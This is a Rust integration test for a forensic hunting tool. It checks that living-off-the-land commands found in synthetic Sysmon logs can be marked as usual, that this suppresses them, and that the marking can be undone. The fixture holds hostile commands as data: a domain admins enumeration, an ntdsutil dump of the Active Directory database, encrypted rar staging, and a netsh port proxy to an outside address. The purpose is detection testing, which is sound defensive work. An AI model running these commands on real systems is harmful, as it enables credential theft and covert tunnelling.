//! Commands that are new, and saying that they are usual.

use std::fmt::Write as _;
use std::path::Path;

use crate::support::{blackrod, hunt, stdout_of};

const COMMANDS: [&str; 4] = [
    r#"cmd.exe /c net group "domain admins" /dom"#,
    r#"ntdsutil.exe "ac i ntds" ifm "create full C:\Windows\Temp\x""#,
    r"rar.exe a -hpsecret C:\Windows\Temp\x.rar C:\Windows\Temp\x",
    "netsh.exe interface portproxy add v4tov4 listenport=9999 connectaddress=203.0.113.7 connectport=8443",
];

fn log() -> String {
    let mut log = String::new();
    for (minute, command) in COMMANDS.iter().enumerate() {
        let image = command.split(' ').next().unwrap();
        let record = serde_json::json!({
            "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon", "EventID": 1,
            "Hostname": "dc1.parl.example", "UtcTime": format!("2021-01-22 02:{minute:02}:00.000"),
            "EventTime": format!("2021-01-22 02:{minute:02}:00"), "User": "PARL\\ben", "LogonId": "0x51ab3",
            "Image": format!("C:\\Windows\\System32\\{image}"), "CommandLine": command,
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        });
        writeln!(log, "{record}").unwrap();
    }
    log
}

fn sessions(case: &Path) -> usize {
    let rows = hunt(
        case,
        "SELECT id FROM findings WHERE code IN ('lotl/session', 'lotl/command')",
    );
    rows.lines().count() - 1
}

fn usual(case: &Path, words: &[&str]) -> std::process::Output {
    let (what, more) = words.split_first().unwrap();
    blackrod()
        .args(["usual", what, "--case"])
        .arg(case)
        .args(more)
        .output()
        .unwrap()
}

#[test]
fn what_is_said_to_be_usual_is_found_no_more_until_it_is_taken_back() {
    let folder = tempfile::tempdir().unwrap();
    let (evidence, case) = (folder.path().join("sysmon.jsonl"), folder.path().join("case"));
    std::fs::write(&evidence, log()).unwrap();
    let investigated = blackrod()
        .arg("investigate")
        .arg(&evidence)
        .arg("--case")
        .arg(&case)
        .args(["--no-builtin", "--quiet"])
        .output()
        .unwrap();
    stdout_of(&investigated, 0);
    assert_eq!(sessions(&case), 1);

    let listed: serde_json::Value =
        serde_json::from_str(&stdout_of(&usual(&case, &["list", "--json"]), 0)).unwrap();
    let new = listed["new"].as_array().unwrap();
    assert_eq!(new.len(), COMMANDS.len());
    let text = stdout_of(&usual(&case, &["list"]), 0);
    let ids: Vec<&str> = text.lines().map(|line| line.split(' ').next().unwrap()).collect();
    let said = [
        "add",
        "--by",
        "anna",
        "--reason",
        "promotion of a domain controller",
    ];

    let unknown = usual(&case, &[&said[..], &["zzz"]].concat());
    assert_eq!(unknown.status.code(), Some(1));
    let for_another = usual(&case, &[&said[..], &["--account", "carl"], &ids].concat());
    let first = stdout_of(&for_another, 0);
    assert_eq!(sessions(&case), 1, "said for another account");
    let noted = stdout_of(
        &usual(&case, &[&said[..], &["--account", "Ben"], &ids].concat()),
        0,
    );
    assert_eq!(sessions(&case), 0);

    let report = blackrod().args(["report", "--case"]).arg(&case).output().unwrap();
    stdout_of(&report, 0);
    let page = std::fs::read_to_string(case.join("report.html")).unwrap();
    assert!(page.contains("promotion of a domain controller"));

    let undo = |line: &str| {
        let number = line.split(['k', ';']).nth(1).unwrap().trim();
        let undone = blackrod()
            .args(["assess", "undo", "--by", "anna", "--case"])
            .arg(&case)
            .arg(number)
            .output()
            .unwrap();
        stdout_of(&undone, 0);
    };
    assert_eq!((first.lines().count(), noted.lines().count()), (4, 4));
    noted.lines().for_each(undo);
    assert_eq!(sessions(&case), 1, "taken back");
    let verified = blackrod().args(["case", "verify"]).arg(&case).output().unwrap();
    stdout_of(&verified, 0);
}
